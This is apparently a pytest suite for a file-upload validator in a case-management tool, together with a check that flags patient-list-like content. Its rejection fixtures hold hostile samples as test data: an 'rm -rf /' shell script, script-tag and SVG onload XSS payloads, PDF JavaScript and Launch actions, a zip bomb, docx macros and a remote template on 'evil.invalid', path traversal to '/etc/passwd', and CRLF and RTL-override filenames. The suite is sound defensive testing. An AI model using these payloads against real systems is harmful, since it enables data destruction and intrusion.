"""What may be kept as a file of a case: by its content, whatever it is called; and what looks like patients' data."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from cases.errors import FileRefused
from cases.files import LARGEST, look_at, safe_name
from cases.personal_data import UNREADABLE, suspicion
from ui.texts import FILE_REASONS, sentence

PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
JPG = b"\xff\xd8\xff\xe0" + b"\x00" * 64


def xlsx(*rows: tuple[object, ...]) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def packed(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as pack:
        for name, content in parts.items():
            pack.writestr(name, content)
    return out.getvalue()


TYPES = b'<?xml version="1.0"?><Types/>'


def docx(text: str = "状況", **more: bytes) -> bytes:
    body = f"<w:document><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
    return packed({"[Content_Types].xml": TYPES, "word/document.xml": body.encode(), **more})


GOOD = {
    "報道発表.pdf": PDF,
    "画面.png": PNG,
    "写真.JPG": JPG,
    "経過.txt": "10月31日 停止".encode(),
    "一覧.csv": "システム,状態\n電子カルテ,停止".encode("cp932"),
    "表.xlsx": xlsx(("システム", "状態"), ("電子カルテ", "停止")),
    "報告.docx": docx(),
}


@pytest.mark.parametrize("name", GOOD)
def test_受け付ける種類(name: str) -> None:
    found = look_at(name, GOOD[name])
    assert (found.name, found.size) == (name, len(GOOD[name]))


BOMB = docx(**{"word/big.xml": b"0" * 150_000_000})
BAD: dict[str, tuple[str, bytes, str]] = {
    "空": ("a.txt", b"", "empty"),
    "大きすぎる": ("a.txt", b"a" * (LARGEST + 1), "too_large"),
    "実行ファイル": ("setup.exe", b"MZ\x90", "kind"),
    "名前だけ文書の実行ファイル": ("a.pdf", b"MZ\x90\x00", "mismatch"),
    "名前だけ文字の実行ファイル": ("a.txt", b"MZ\x90 this program", "mismatch"),
    "Linuxの実行ファイル": ("a.csv", b"\x7fELF\x02\x01\x01", "mismatch"),
    "命令書": ("a.txt", b"#!/bin/sh\nrm -rf /", "mismatch"),
    "ウェブページ": ("a.html", b"<html></html>", "kind"),
    "文字の名をしたウェブページ": ("a.txt", b"  <HTML><body onload=x>", "html"),
    "文字の名をした絵の命令": ("a.csv", b"a,b\n<svg onload=alert(1)>", "html"),
    "文字の中の命令": ("a.txt", "説明 <script>alert(1)</script>".encode(), "html"),
    "SVG": ("a.svg", b"<svg/>", "kind"),
    "名前だけ画像": ("a.png", PDF, "mismatch"),
    "圧縮が付いたPDF": ("a.pdf", PDF + packed({"x": b"y"}), "polyglot"),
    "圧縮が付いた画像": ("a.png", PNG + packed({"x": b"y"}), "polyglot"),
    "命令の付いた画像": ("a.jpg", JPG + b"<script>alert(1)</script>", "polyglot"),
    "動くPDF": ("a.pdf", PDF + b"<</S/JavaScript/JS(app.alert)>>", "active"),
    "起動するPDF": ("a.pdf", PDF + b"<</S/Launch>>", "active"),
    "展開すると巨大": ("a.docx", BOMB, "zip_bomb"),
    "部品が多すぎる": ("a.docx", docx(**{f"word/p{n}.xml": b"" for n in range(2100)}), "zip_bomb"),
    "マクロ": ("a.docx", docx(**{"word/vbaProject.bin": b"x"}), "active"),
    "マクロの種類": (
        "a.xlsx",
        packed({"[Content_Types].xml": b"macroEnabled", "xl/workbook.xml": b"<workbook/>"}),
        "active",
    ),
    "埋め込み": ("a.docx", docx(**{"word/embeddings/oleObject1.bin": b"x"}), "active"),
    "外から取り込むひな形": (
        "a.docx",
        docx(
            **{
                "word/_rels/settings.xml.rels": b'<Relationship Type="http://x/attachedTemplate" '
                b'Target="http://evil.invalid/t.dotm" TargetMode="External"/>'
            }
        ),
        "active",
    ),
    "上の階層へ出る部品": ("a.docx", docx(**{"../../etc/passwd": b"x"}), "active"),
    "ただの圧縮": ("a.docx", packed({"readme.txt": b"x"}), "mismatch"),
    "壊れた圧縮": ("a.xlsx", b"PK\x03\x04" + b"\x00" * 40, "mismatch"),
    "メール": ("a.eml", b"From: a", "kind"),
    "拡張子なし": ("pdf", PDF, "kind"),
    "二重の拡張子": ("a.pdf.exe", PDF, "kind"),
    "空文字の混ざる文字": ("a.txt", b"a\x00b", "mismatch"),
    "読めない文字": ("a.txt", b"\xff\xff\xff\x81", "mismatch"),
}


@pytest.mark.parametrize("case", BAD)
def test_受け付けない資料と理由(case: str) -> None:
    name, content, reason = BAD[case]
    with pytest.raises(FileRefused) as caught:
        look_at(name, content)
    assert caught.value.reason == reason
    assert sentence(caught.value).endswith("。")


def test_断る理由にはどれも文がある() -> None:
    assert {reason for _, _, reason in BAD.values()} <= set(FILE_REASONS)


def test_ただのリンクは外への参照に数えない() -> None:
    rels = b'<Relationship Type="http://x/hyperlink" Target="https://a.example/" TargetMode="External"/>'
    assert look_at("a.docx", docx(**{"word/_rels/document.xml.rels": rels})).text


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/passwd.txt", "passwd.txt"),
        ("C:\\Users\\x\\表.xlsx", "表.xlsx"),
        ("a\u202egpj.exe", "agpj.exe"),
        ("改\r\nSet-Cookie: x.pdf", "改Set-Cookie x.pdf"),
        ('a"b<c>.pdf', "abc.pdf"),
        ("...", "名称なし"),
        ("", "名称なし"),
        ("あ" * 500 + ".pdf", "あ" * 110 + ".pdf"),
    ],
)
def test_名前は道筋も制御文字も失う(given: str, kept: str) -> None:
    assert safe_name(given) == kept


@given(st.text(max_size=300))
def test_どんな名前も無害で短い(name: str) -> None:
    kept = safe_name(name)
    assert 0 < len(kept) <= 120
    assert not set(kept) & set('/\\\r\n\x00"<>')


@given(st.binary(max_size=400), st.sampled_from(sorted(["a.pdf", "a.png", "a.txt", "a.csv", "a.xlsx", "a.docx"])))
def test_どんな中身も受け付けるか断るかのどちらかである(content: bytes, name: str) -> None:
    try:
        found = look_at(name, content)
    except FileRefused as refused:
        reason = refused.reason
    else:
        assert found.size == len(content)
        return
    assert reason in FILE_REASONS


PATIENTS = {
    "患者一覧.csv": "氏名,生年月日,カルテ番号\n架空 太郎,昭和30年1月2日,123".encode(),
    "一覧.txt": "患者番号\t病名\n1\t骨折".encode("cp932"),
    "名簿.xlsx": xlsx(("患者氏名", "保険者番号"), ("架空", 1)),
    "名簿.docx": docx("氏名,住所,性別"),
    "見出しのない名簿.csv": "\n".join(f"架空 花子,19{n}0/1/2,外来" for n in range(2, 8)).encode(),
}
HARMLESS = {
    "件数.csv": "区分,件数\n入院患者,120\n外来患者,340".encode(),
    "経過.txt": "電子カルテが停止し、新規の外来を止めた。患者への影響を確認中。".encode(),
    "機器.xlsx": xlsx(("サーバ名", "状態", "復旧日"), ("架空", "停止", "2021/11/5")),
}


@pytest.mark.parametrize("name", PATIENTS)
def test_患者の一覧のような資料には警告する(name: str) -> None:
    assert suspicion(look_at(name, PATIENTS[name]).text)


@pytest.mark.parametrize("name", HARMLESS)
def test_件数や経過には警告しない(name: str) -> None:
    assert suspicion(look_at(name, HARMLESS[name]).text) == ""


def test_中身を確かめられない資料は人が確かめる() -> None:
    assert suspicion(look_at("a.pdf", PDF).text) == UNREADABLE
